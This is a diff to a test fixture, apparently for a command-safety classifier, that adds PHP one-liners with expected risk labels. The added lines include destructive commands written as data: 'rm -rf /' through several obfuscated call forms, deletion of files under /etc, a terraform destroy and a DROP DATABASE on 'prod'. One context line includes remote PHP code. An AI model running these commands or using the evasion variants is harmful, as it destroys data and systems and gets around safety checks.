@@ -45,4 +45,22 @@ export const phpHeld: readonly Held[] = [
   [4, "php artisan migrate:fresh"],
   [2, "php -r 'include \"http://x/y.php\";'", ["unknown? code include http://x/y.php @local"]],
   [2, 'php -r \'mail("a@b.c","x","y");\'', ["unknown? code mail @local"]],
+  [3, "php -r 'exec(\"rm -rf /\");'", ["delete directory / @local"]],
+  [4, "php -r 'passthru(\"terraform destroy -auto-approve\");'"],
+  [3, "php -r '(function(){ shell_exec(\"rm -rf /\"); })();'", ["delete directory / @local"]],
+  [3, 'php -r \'$a = ["system"]; $a[0]("rm -rf /");\'', ["delete directory / @local"]],
+  [3, "php -r 'array_walk($x = [\"rm -rf /\"], fn($c) => system($c));'", ["delete directory / @local"]],
+  [3, "php -r 'SYSTEM(\"rm -rf /\");'", ["delete directory / @local"]],
+  [3, "php -r '\\exec(\"rm -rf /\");'", ["delete directory / @local"]],
+  [
+    3,
+    "php -r '$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(\"/etc\")); foreach ($it as $f) unlink($f);'",
+    ["delete? file unlink($f) @local"],
+  ],
+  [4, 'php -r \'mysqli_query(mysqli_connect("prod"), "DROP DATABASE x");\''],
+  [
+    2,
+    'php -r \'preg_replace_callback("/x/", "system", "x"); usort($a, "exec");\'',
+    ["unknown? code exec @local"],
+  ],
 ];
